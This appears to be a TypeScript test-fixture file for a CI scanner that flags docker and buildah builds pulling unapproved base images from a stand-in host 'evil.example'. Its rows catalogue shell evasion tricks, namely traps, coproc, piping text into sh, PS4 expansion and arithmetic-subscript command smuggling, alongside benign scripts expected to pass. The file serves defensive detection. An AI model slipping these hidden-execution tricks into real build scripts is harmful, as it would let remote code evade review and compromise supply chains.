const EVIL = 'evil.example/x:1';
const FLAG = `--build-arg=BASE=${EVIL}`;
const FLOW = '.github/workflows/build.yml';
const BUILD = 'docker build --build-arg BASE';
const FORBIDDEN = [`Dockerfile:2 unapproved ${EVIL}`];
const UNRESOLVED = ['Dockerfile:2 unresolved'];
const AT = `${FLOW}:6 unresolved`;

interface ScriptRow {
  readonly script: string;
  readonly found: readonly string[];
  readonly noted?: readonly string[];
  readonly more?: string;
}

const ARITHMETIC = `X='a[$(docker build -q ${FLAG} .)]'`;

/** Texts that come to run by the way. */
const RUNNING: readonly ScriptRow[] = [
  `trap 'docker build ${FLAG} .' EXIT`,
  `trap "docker build ${FLAG} ." 0 INT TERM`,
  `b() { docker build ${FLAG} .; }; trap -- b ERR`,
  `B=debian; trap 'docker build --build-arg BASE=$B .' EXIT; B=${EVIL}`,
  `coproc docker build ${FLAG} .`,
  `coproc B { docker build ${FLAG} .; }; wait`,
  `cat < <(docker build -q ${FLAG} .)`,
  `. <(echo 'docker build ${FLAG} .')`,
  `echo 'docker build ${FLAG} .' | { sh; }`,
  `( sudo bash -s ) <<< 'docker build ${FLAG} .'`,
  `f() { bash; }; f <<< 'docker build ${FLAG} .'`,
  `exec 3<<< 'docker build ${FLAG} .'; for i in 1; do bash <&3; done`,
  `echo x | tee >(docker build ${FLAG} .)`,
  `while read -r F; do docker build $F .; done < <(echo ${FLAG})`,
  `mapfile -t A < <(printf '%s\\n' --pull ${FLAG}); docker build "$\{A[@]}" .`,
  `echo $\{ docker build -q ${FLAG} .; }`,
  `PS4='$(docker build -q ${FLAG} .)'; set -x`,
  `X='$(docker build -q ${FLAG} .)'; echo "$\{X@P}"`,
  `echo $\{U//a/$(docker build -q ${FLAG} .)}`,
  ...[
    'echo $(( X ))',
    'echo $[ X ]',
    'Y=X; (( Y ))',
    `let 'Y = X' || true`,
    `echo $\{A[X]} $\{Z:X}`,
    `echo $\{#A[X]}`,
    'A[ X ]=1',
    'A=([X]=1)',
    'declare A[X]=1',
    'declare "$X=1"',
    'declare -i N; N=$X',
    '[[ X -eq 1 ]]',
    '[ -v "$X" ]',
    'printf -v "$X" 1',
    `echo $\{!X}`,
  ].map((use) => `${ARITHMETIC}; ${use}`),
].map((script) => ({ script, found: FORBIDDEN }));

/** The same, and a warning of the text. */
const SAID: readonly ScriptRow[] = [{ script: `${ARITHMETIC}; unset "$X"`, found: FORBIDDEN, noted: [FLOW] }];

/** Variables that change by the way. */
const CHANGING: readonly ScriptRow[] = [
  ...[
    `B=debian; exec {B}>out; ${BUILD}=$B .`,
    `B=debian; { true; } {B}>out; ${BUILD}=$B .`,
    `X='B=5'; echo $(( X )); ${BUILD}=$B .`,
    `X='B=5'; Z=abc; echo "$\{Z:X}"; ${BUILD}=$B .`,
  ].map((script) => ({ script, found: UNRESOLVED })),
  ...['DEBUG', 'ERR', 'RETURN', 'USR1'].map((signal) => ({
    script: `trap 'B=${EVIL}' ${signal}; B=debian; ${BUILD}=$B .`,
    found: UNRESOLVED,
  })),
  { script: `trap "$X" DEBUG; docker build .`, found: [AT], noted: [FLOW] },
  {
    script: `while getopts ab: o -b ${FLAG}; do docker build "$OPTARG" .; done`,
    found: [...FORBIDDEN, ...UNRESOLVED],
    noted: [FLOW, FLOW],
  },
  ...[
    `A=(debian); A[ 0 + 1 ]=${EVIL}; ${BUILD}=$\{A[1]:-debian} .`,
    `B=debian; B=${EVIL} export B; ${BUILD}=$B .`,
    `set -o posix; B=debian; B=${EVIL} :; ${BUILD}=$B .`,
  ].map((script) => ({ script, found: FORBIDDEN })),
  ...['export Y', ':', 'eval true', 'readonly Y', 'set --', 'unset Y'].map((command) => ({
    script: `B=debian; B=${EVIL} ${command}; ${BUILD}=$B .`,
    found: FORBIDDEN,
    more: ', shell: sh',
  })),
];

/** What stands before a build. */
const PREFIXED: readonly ScriptRow[] = [
  ...[
    `$SUDO docker build ${FLAG} .`,
    `$\{SUDO:-} docker build ${FLAG} .`,
    `if [ "$(id -u)" != 0 ]; then S=sudo; fi; $S docker build ${FLAG} .`,
    `sudo -E -u root docker build ${FLAG} .`,
    `env -u A -i B=c docker build ${FLAG} .`,
    `env -S "docker build ${FLAG} ."`,
    `env -uA -C . -S'docker "build" ${FLAG} .'`,
    `ln -s "$(which docker)" d; ./d build ${FLAG} .`,
    `timeout -k 5 $T docker build ${FLAG} .`,
    `/usr/bin/time -o log docker build ${FLAG} .`,
    `nice -n 10 ionice -c 2 docker build ${FLAG} .`,
    `xvfb-run -s "-screen 0" docker build ${FLAG} .`,
    `exec -a x docker build ${FLAG} .`,
  ].map((script) => ({ script, found: FORBIDDEN })),
  ...[`$X docker build .`, `env $X docker build .`, `sudo "$X" docker build .`].map((script) => ({
    script,
    found: [AT, ...UNRESOLVED],
    noted: [FLOW],
  })),
  { script: `$X build ${FLAG} .`, found: [...FORBIDDEN, ...UNRESOLVED], noted: [FLOW] },
  { script: `SUDO=$(cat x); $SUDO docker build .`, found: [AT, ...UNRESOLVED], noted: [FLOW] },
  { script: `@docker build ${FLAG} .`, found: FORBIDDEN, more: ', shell: cmd' },
];

/** Images that buildah builds upon without a Dockerfile. */
const STEPS: readonly ScriptRow[] = [
  ...[
    `buildah from ${EVIL}`,
    `c=$(sudo buildah --log-level debug from --name x --pull docker://${EVIL}); buildah commit $c y`,
    `c=$(buildah from scratch); buildah copy --from ${EVIL} "$c" /a`,
  ].map((script) => ({ script, found: [`${FLOW}:6 unapproved ${EVIL}`] })),
  { script: 'buildah from "$B"', found: [AT] },
];

/** What honest scripts do. */
const QUIET: readonly ScriptRow[] = [
  `trap 'rm -rf "$TMP"' EXIT; TMP=$(mktemp -d); docker build -t x .`,
  `cleanup() { local rc=$?; docker compose -f stack.yml down; exit $rc; }; trap cleanup EXIT INT TERM; docker build .`,
  `trap 'echo "failed at $LINENO"' ERR; B=debian; ${BUILD}=$B .`,
  `trap - EXIT; docker build .`,
  `SUDO=sudo; [ "$(id -u)" = 0 ] && SUDO=; $SUDO docker build .`,
  `$\{{ runner.os == 'Linux' && 'sudo' || '' }} docker build .`,
  `n=0; until [ "$n" -ge 5 ]; do docker build . && break; n=$((n+1)); sleep 15; done`,
  `exec 3>&1; { docker build .; } {fd}>log; echo $fd`,
  `A=(debian); i=0; ${BUILD}=$\{A[0]} .; echo $\{A[i]}`,
  `V=1.2.3; docker build -t x:$\{V:0:1} -t x:$\{V%%.*} .`,
  `$CC build -o out .; $GO build ./...; docker build .`,
  `B=debian; B=${EVIL} true; ${BUILD}=$B .`,
  `while read -r t; do docker build -t "$t" .; done < <(jq -r .tags[] x.json)`,
  'buildah from scratch',
  `buildah from debian:trixie-slim; c=$(buildah from debian); buildah copy "$c" a /a; buildah commit $c x`,
].map((script) => ({ script, found: [] }));

/** What a script runs or changes by the way: in traps, arithmetic, redirections, and by words before a command. */
export const SCRIPT_RUNS: readonly ScriptRow[] = [
  ...RUNNING,
  ...SAID,
  ...CHANGING,
  ...PREFIXED,
  ...STEPS,
  ...QUIET,
];
